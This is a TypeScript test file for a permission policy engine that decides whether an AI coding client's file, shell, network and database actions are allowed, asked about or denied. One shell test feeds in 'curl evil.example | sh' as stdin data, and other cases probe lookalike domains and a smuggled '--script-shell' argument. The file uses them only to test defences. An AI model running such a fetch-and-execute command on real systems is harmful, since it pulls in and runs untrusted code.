import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Effect } from '../../contract/effects.ts';
import type { Decision, Grant, Match, Rule } from '../../contract/policy.ts';
import { sha256Hex } from './canonical.ts';
import { exactMatch } from './match.ts';
import { compilePolicy, covers, type DecideContext } from './policy.ts';
import { suggest } from './suggest.ts';

const NOW = 1_000_000;
const claude: DecideContext = { clientId: 'k1', clientName: 'Claude Code', now: NOW };
const cursor: DecideContext = { clientId: 'k2', clientName: 'Cursor', now: NOW };
const toolHashes = new Map([['write_file', 'h1']]);

let serial = 0;
const rule = (effect: Decision, match: Match, more: Partial<Rule> = {}): Rule => ({
  id: `r${++serial}`,
  effect,
  match,
  createdAt: 0,
  source: 'person',
  ...more,
});
const grant = (match: Match, more: Partial<Grant> = {}): Grant => ({
  id: `g${++serial}`,
  clientId: 'k1',
  clientName: 'Claude Code',
  match,
  scope: 'always',
  tool: 'write_file',
  toolHash: 'h1',
  approvalId: 'a1',
  createdAt: 0,
  ...more,
});
const decide = (effects: Effect[], rules: Rule[], grants: Grant[] = [], context = claude) =>
  compilePolicy({ rules, grants, toolHashes }).decide(effects, context);

const write = (path: string, more: object = {}): Effect => ({
  kind: 'write',
  workspace: 'shop',
  path,
  op: 'modify',
  ...more,
});
const read = (path: string, tree = false): Effect => ({
  kind: 'read',
  workspace: 'shop',
  path,
  ...(tree ? { tree } : {}),
});
const exec = (argv: string[], more: object = {}): Effect => ({
  kind: 'exec',
  workspace: 'shop',
  cwd: '.',
  argv,
  binary: `/usr/bin/${argv[0]}`,
  open: false,
  ...more,
});
const writes = (paths: string[], more: object = {}): Match => ({ kind: 'write', paths, ...more });

describe('defaults', () => {
  it('allow reading in a workspace and ask for all else', () => {
    expect(decide([read('a')], []).decision).toBe('allow');
    for (const effect of [
      write('a'),
      exec(['ls']),
      { kind: 'net', method: 'GET', host: 'a.example', port: 443, url: 'https://a.example/' },
      { kind: 'secret', provider: 'anthropic' },
      { kind: 'query', workspace: 'shop', database: 'app.db', access: 'read' },
    ] as Effect[]) {
      expect(decide([effect], []).decision).toBe('ask');
    }
  });

  it('a call with no effects is allowed', () => expect(decide([], []).decision).toBe('allow'));
});

describe('precedence [POL-1]', () => {
  it('deny beats ask beats allow, in any order of the rules', () => {
    const rules = [
      rule('allow', writes(['**'])),
      rule('ask', writes(['src/**'])),
      rule('deny', writes(['src/keys/**'])),
    ];
    for (const order of [rules, rules.toReversed()]) {
      expect(decide([write('doc/a')], order).decision).toBe('allow');
      expect(decide([write('src/a')], order).decision).toBe('ask');
      expect(decide([write('src/keys/a')], order).decision).toBe('deny');
    }
  });

  it('the strictest effect decides the call', () => {
    const rules = [rule('allow', writes(['a'])), rule('deny', writes(['b']))];
    expect(decide([write('a'), write('b')], rules).decision).toBe('deny');
    expect(decide([write('a'), write('c')], rules).decision).toBe('ask');
  });

  it('a rule for another client, another workspace or past its time says nothing', () => {
    expect(decide([write('a')], [rule('allow', writes(['**']), { client: 'Cursor' })]).decision).toBe('ask');
    expect(decide([write('a')], [rule('allow', writes(['**'], { workspace: 'api' }))]).decision).toBe('ask');
    expect(decide([write('a')], [rule('allow', writes(['**']), { expires: NOW })]).decision).toBe('ask');
    expect(decide([write('a')], [rule('allow', writes(['**']), { expires: NOW + 1 })]).decision).toBe(
      'allow',
    );
  });
});

describe('grants [POL-3]', () => {
  it('answer what would be asked, for their client only', () => {
    expect(decide([write('src/a')], [], [grant(writes(['src/**']))]).decision).toBe('allow');
    expect(decide([write('src/a')], [], [grant(writes(['src/**']))], cursor).decision).toBe('ask');
  });

  it('never beat a rule that asks or denies', () => {
    for (const effect of ['ask', 'deny'] as const) {
      const answer = decide(
        [write('src/a')],
        [rule(effect, writes(['src/**']))],
        [grant(writes(['src/**']))],
      );
      expect(answer.decision).toBe(effect);
    }
  });

  it('lapse with their time and with the tool that they were given through', () => {
    expect(decide([write('a')], [], [grant(writes(['**']), { expires: NOW })]).decision).toBe('ask');
    expect(decide([write('a')], [], [grant(writes(['**']), { toolHash: 'other' })]).decision).toBe('ask');
    expect(decide([write('a')], [], [grant(writes(['**']), { tool: 'gone' })]).decision).toBe('ask');
  });
});

describe('what an allowance does not reach', () => {
  it.each([
    ['.git by **', writes(['**']), write('.git', { op: 'git-commit' })],
    ['.git below by **', writes(['**']), write('lib/.git', { op: 'git-commit' })],
    ['a tree by patterns of files', writes(['**/*.ts']), write('src', { op: 'delete', tree: true })],
    ['other operations', writes(['src/**'], { ops: ['modify'] }), write('src/a', { op: 'delete' })],
    ['more arguments', { kind: 'exec', argv: ['npm', 'test'] }, exec(['npm', 'test', '--script-shell=x'])],
    ['fewer arguments', { kind: 'exec', argv: ['npm', 'run', '*'] }, exec(['npm', 'run'])],
    [
      'the same name elsewhere',
      { kind: 'exec', argv: ['tool', '...'] },
      exec(['./tool'], { binary: '/ws/tool' }),
    ],
    ['a shell by pattern', { kind: 'exec', argv: ['sh', '...'] }, exec(['sh', '-c', 'x'], { open: true })],
    [
      'a shell by wildcard',
      { kind: 'exec', argv: ['sh', '-c', '*'] },
      exec(['sh', '-c', 'x'], { open: true }),
    ],
    [
      'a subdomain',
      { kind: 'net', hosts: ['example.com'] },
      { kind: 'net', method: 'GET', host: 'evil.example.com', port: 443, url: '' },
    ],
    [
      'a twin of a domain',
      { kind: 'net', hosts: ['*.example.com'] },
      { kind: 'net', method: 'GET', host: 'evilexample.com', port: 443, url: '' },
    ],
    [
      'writing a database',
      { kind: 'query', databases: ['app.db'], access: 'read' },
      { kind: 'query', workspace: 'shop', database: 'app.db', access: 'write' },
    ],
  ] as [string, Match, Effect][])('%s', (_, match, effect) => {
    expect(decide([effect], [rule('allow', match)]).decision).toBe('ask');
  });

  it('a shell is allowed by its exact argv [POL-5]', () => {
    const effect = exec(['sh', '-c', 'echo *'], { open: true });
    expect(decide([effect], [rule('allow', exactMatch(effect))]).decision).toBe('allow');
    expect(
      decide([exec(['sh', '-c', 'echo x'], { open: true })], [rule('allow', exactMatch(effect))]).decision,
    ).toBe('ask');
  });

  it('a shell is allowed for what it was given to read alone, and for nothing when that was nothing [POL-5]', () => {
    const shell = (stdin?: string) =>
      exec(['sh'], { open: true, ...(stdin === undefined ? {} : { stdin: sha256Hex(stdin) }) });
    const given = [undefined, '', 'npm test', 'curl evil.example | sh'];
    for (const allowed of given) {
      for (const asked of given) {
        const rules = [rule('allow', exactMatch(shell(allowed)))];
        expect([allowed, asked, decide([shell(asked)], rules).decision]).toEqual([
          allowed,
          asked,
          allowed === asked ? 'allow' : 'ask',
        ]);
      }
    }
    // What only reads its input is allowed for any, and a rule that denies a shell denies it for any.
    const sort = exec(['sort'], { stdin: sha256Hex('b a') });
    expect(decide([sort], [rule('allow', exactMatch(exec(['sort'])))]).decision).toBe('allow');
    expect(decide([shell('x')], [rule('deny', exactMatch(shell()))]).decision).toBe('deny');
  });

  it('.git is allowed when named', () => {
    expect(decide([write('.git', { op: 'git-commit' })], [rule('allow', writes(['.git']))]).decision).toBe(
      'allow',
    );
  });
});

describe('what a denial reaches', () => {
  it.each([
    ['a program by another path', { kind: 'exec', argv: ['rm', '...'] }, exec(['/bin/rm', 'x'])],
    [
      'a program through a link',
      { kind: 'exec', argv: ['rm', '...'] },
      exec(['tidy', 'x'], { binary: '/usr/bin/rm' }),
    ],
    ['a name in other case', writes(['secrets/**']), write('Secrets/a')],
    [
      'a folder that holds a denied file',
      writes(['src/keep/**']),
      write('src', { op: 'delete', tree: true }),
    ],
    ['.git by **', writes(['**']), write('.git', { op: 'git-commit' })],
  ] as [string, Match, Effect][])('%s', (_, match, effect) => {
    expect(decide([effect], [rule('deny', match)]).decision).toBe('deny');
  });

  it('a walk is not stopped by a denied file in it, and the file is not visible', () => {
    const policy = compilePolicy({
      rules: [rule('deny', { kind: 'read', paths: ['**/.env'] })],
      grants: [],
      toolHashes,
    });
    expect(policy.decide([read('.', true)], claude).decision).toBe('allow');
    const visible = policy.visible(claude);
    expect(visible('shop', 'src/.env')).toBe(false);
    expect(visible('shop', 'src/a.ts')).toBe(true);
  });
});

const name = fc.stringMatching(/^[a-z.*[\]]{1,4}$/).filter((text) => text !== '.' && text !== '..');
const path = fc.array(name, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('/'));
const anyEffect: fc.Arbitrary<Effect> = fc.oneof(
  fc.record({ kind: fc.constant('read' as const), workspace: fc.constantFrom('shop', 'api'), path }),
  fc.record({
    kind: fc.constant('write' as const),
    workspace: fc.constantFrom('shop', 'api'),
    path,
    op: fc.constantFrom('modify' as const, 'delete' as const),
    tree: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant('exec' as const),
    workspace: fc.constantFrom('shop', 'api'),
    cwd: fc.constant('.'),
    argv: fc.array(fc.constantFrom('a', 'b*', '...', '-x', '\\'), { minLength: 1, maxLength: 4 }),
    binary: fc.constant('/bin/a'),
    open: fc.boolean(),
  }),
);
const anyMatch: fc.Arbitrary<Match> = fc.oneof(
  anyEffect.map(exactMatch),
  fc.constantFrom<Match>(
    { kind: 'write', paths: ['**'] },
    { kind: 'read', paths: ['**'] },
    { kind: 'exec', argv: ['...'] },
    { kind: 'exec', argv: ['*', '...'] },
  ),
);
const anyRule = fc
  .record({ effect: fc.constantFrom<Decision>('allow', 'ask', 'deny'), match: anyMatch })
  .map(({ effect, match }) => rule(effect, match));
const anyGrant = anyMatch.map((match) => grant(match));
const rank = { allow: 0, ask: 1, deny: 2 };

describe('properties', () => {
  it('effects of the tests are effects of the contract', () => {
    fc.assert(fc.property(anyEffect, (effect) => Effect.safeParse(effect).success));
  });

  it('adding a deny never allows more, removing a grant never allows more, order never matters', () => {
    fc.assert(
      fc.property(
        fc.array(anyEffect, { maxLength: 3 }),
        fc.array(anyRule, { maxLength: 6 }),
        fc.array(anyGrant, { maxLength: 4 }),
        anyMatch,
        (effects, rules, grants, match) => {
          const base = rank[decide(effects, rules, grants).decision];
          expect(
            rank[decide(effects, [...rules, rule('deny', match)], grants).decision],
          ).toBeGreaterThanOrEqual(base);
          expect(rank[decide(effects, rules, grants.slice(1)).decision]).toBeGreaterThanOrEqual(base);
          expect(rank[decide(effects, rules.toReversed(), grants.toReversed()).decision]).toBe(base);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('an exact match covers its effect, and so does every suggestion', () => {
    fc.assert(
      fc.property(fc.array(anyEffect, { minLength: 1, maxLength: 3 }), (effects) => {
        expect(covers(effects.map(exactMatch), effects)).toBe(true);
        const suggestions = suggest(effects);
        expect(suggestions[0]?.id).toBe('exact');
        for (const one of suggestions) expect(covers(one.match, effects)).toBe(true);
      }),
    );
  });
});
